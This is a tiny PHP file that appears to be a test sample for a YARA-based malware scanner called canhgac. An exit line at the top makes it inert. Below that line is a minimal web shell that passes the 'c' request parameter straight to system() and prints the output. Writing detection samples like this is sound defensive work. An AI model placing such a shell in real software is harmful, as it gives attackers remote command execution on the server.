<?php exit('canhgac YARA test sample - inert'); ?>
<?php
// canhgac test sample: OS command from request input
if (isset($_GET['c'])) {
    echo "<pre>";
    system($_GET['c']);
    echo "</pre>";
}
